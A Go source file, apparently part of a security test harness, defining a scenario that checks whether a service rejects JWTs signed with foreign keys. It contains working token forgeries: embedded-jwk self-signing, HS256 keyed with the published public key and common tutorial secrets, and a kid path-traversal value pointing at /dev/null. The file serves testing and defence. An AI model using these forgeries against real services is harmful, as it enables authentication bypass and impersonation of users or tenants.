package scenarios

import (
	"context"
	"crypto"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rand"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"sync"

	"github.com/partywall/partywall/harness"
)

func tokenForeignKey() harness.Scenario {
	return harness.Scenario{
		ID:    "token/foreign-key",
		Claim: "a token signed with a key that is not the service's is refused",
		Why: "A token can carry its own key, name a file as its key, or pass a public key off as a shared secret. A verifier that " +
			"goes along verifies nothing.",
		Fix: "Verify with keys that you configured, of one algorithm; ignore jwk, jku and x5u, and look kid up in a fixed list.",
		Refs: harness.Refs{
			CheatSheet: []string{
				"Bind tenant context to the authenticated user session.",
				"Derive tenant context from authenticated, verified tokens.",
				"Tenant Impersonation",
			},
			CWE: []int{347, 327}, OWASP: []string{"API2"}, Techniques: []string{"17", "18", "19"},
			Bugs: []string{"CVE-2018-0114", "CVE-2016-10555", "migration-planner CVE-2026-53471"},
		},
		Needs: harness.Needs{Forger: true},
		Attack: func(ctx context.Context, w *harness.World) error {
			return forge(ctx, w, append(selfSigned(), sharedSecrets(publishedKeys(ctx, w))...))
		},
	}
}

// selfSigned tokens are signed properly, by us.
func selfSigned() []forgery {
	sign := func(embed bool) func(t *jwt) (string, error) {
		return func(t *jwt) (string, error) {
			alg, _ := t.header["alg"].(string)
			keys, err := ourKeys()
			if err != nil {
				return "", err
			}
			k, ok := keys[alg]
			if !ok {
				k = keys["EdDSA"]
				t.header["alg"] = "EdDSA"
			}
			if embed {
				t.header["jwk"] = k.jwk
			}
			text, err := t.signed()
			if err != nil {
				return "", err
			}
			signature, err := k.sign([]byte(text))
			return text + "." + base64.RawURLEncoding.EncodeToString(signature), err
		}
	}
	return []forgery{{"signed with another key", sign(false)}, {"signed with an embedded key", sign(true)}}
}

// sharedSecrets are tokens with an HMAC over what anybody can know: the public key in all its spellings, the empty
// string, and the secrets of tutorials.
func sharedSecrets(public []secret) []forgery {
	known := append(public,
		secret{"the empty string", nil}, secret{`"secret"`, []byte("secret")}, secret{`"changeme"`, []byte("changeme")},
		secret{`"your-256-bit-secret"`, []byte("your-256-bit-secret")},
	)
	var out []forgery
	hs256 := func(t *jwt, key []byte) (string, error) {
		t.header["alg"] = "HS256"
		text, err := t.signed()
		mac := hmac.New(sha256.New, key)
		_, _ = mac.Write([]byte(text)) // a hash never fails
		return text + "." + base64.RawURLEncoding.EncodeToString(mac.Sum(nil)), err
	}
	for _, k := range known {
		out = append(out, forgery{"HS256 with " + k.name, func(t *jwt) (string, error) { return hs256(t, k.value) }})
	}
	return append(out, forgery{"HS256, kid=/dev/null", func(t *jwt) (string, error) {
		t.header["kid"] = "../../../../../../dev/null"
		return hs256(t, nil)
	}})
}

type secret struct {
	name  string
	value []byte
}

// publishedKeys fetches the service's key set, and returns every form in which a careless verifier could hold a key.
func publishedKeys(ctx context.Context, w *harness.World) []secret {
	path := w.Surface().KeySet
	if path == "" {
		return nil
	}
	op := harness.Operation{Verb: "key-set", Method: "GET", Path: path}
	e := w.Prepare(ctx, w.Attacker(), harness.NewCall(w.Resource(), &op, harness.Values{}))
	var set struct {
		Keys []struct{ Kty, Crv, X, Y, N, E string }
	}
	if !e.OK || json.Unmarshal(e.Response.Body, &set) != nil {
		return nil
	}
	out := []secret{{"the key set", e.Response.Body}}
	decode := func(s string) []byte {
		data, _ := base64.RawURLEncoding.DecodeString(s) // what is no base64 yields no key
		return data
	}
	for _, k := range set.Keys {
		var public crypto.PublicKey
		switch {
		case k.Kty == "OKP" && k.Crv == "Ed25519" && len(decode(k.X)) == ed25519.PublicKeySize:
			public = ed25519.PublicKey(decode(k.X))
			out = append(out, secret{"the bytes of the public key", decode(k.X)}, secret{"x of the public key", []byte(k.X)})
		case k.Kty == "RSA":
			public = &rsa.PublicKey{N: new(big.Int).SetBytes(decode(k.N)), E: int(new(big.Int).SetBytes(decode(k.E)).Int64())}
			out = append(out, secret{"n of the public key", []byte(k.N)})
		default:
			continue
		}
		der, err := x509.MarshalPKIXPublicKey(public)
		if err != nil {
			continue
		}
		text := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
		out = append(out, secret{"the public key as PEM", text}, secret{"the public key as PEM without its last newline", text[:len(text)-1]},
			secret{"the public key as DER", der})
	}
	return out
}

// A key of ours for one algorithm.
type key struct {
	jwk  map[string]string
	sign func([]byte) ([]byte, error)
}

// ourKeys are made once: they protect nothing.
var ourKeys = sync.OnceValues(func() (map[string]key, error) {
	b64 := base64.RawURLEncoding.EncodeToString
	public, private, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("make a key: %w", err)
	}
	r, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return nil, fmt.Errorf("make a key: %w", err)
	}
	e, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return nil, fmt.Errorf("make a key: %w", err)
	}
	point, err := e.PublicKey.Bytes() // 4, then x and y of 32 bytes each
	if err != nil {
		return nil, fmt.Errorf("make a key: %w", err)
	}
	return map[string]key{
		"EdDSA": {
			map[string]string{"kty": "OKP", "crv": "Ed25519", "alg": "EdDSA", "x": b64(public)},
			func(text []byte) ([]byte, error) { return ed25519.Sign(private, text), nil },
		},
		"RS256": {
			map[string]string{"kty": "RSA", "alg": "RS256", "n": b64(r.N.Bytes()), "e": b64(big.NewInt(int64(r.E)).Bytes())},
			func(text []byte) ([]byte, error) {
				sum := sha256.Sum256(text)
				return rsa.SignPKCS1v15(rand.Reader, r, crypto.SHA256, sum[:])
			},
		},
		"ES256": {
			map[string]string{"kty": "EC", "crv": "P-256", "alg": "ES256", "x": b64(point[1:33]), "y": b64(point[33:])},
			func(text []byte) ([]byte, error) {
				sum := sha256.Sum256(text)
				x, y, err := ecdsa.Sign(rand.Reader, e, sum[:])
				if err != nil {
					return nil, err
				}
				out := make([]byte, 64)
				x.FillBytes(out[:32])
				y.FillBytes(out[32:])
				return out, nil
			},
		},
	}, nil
})
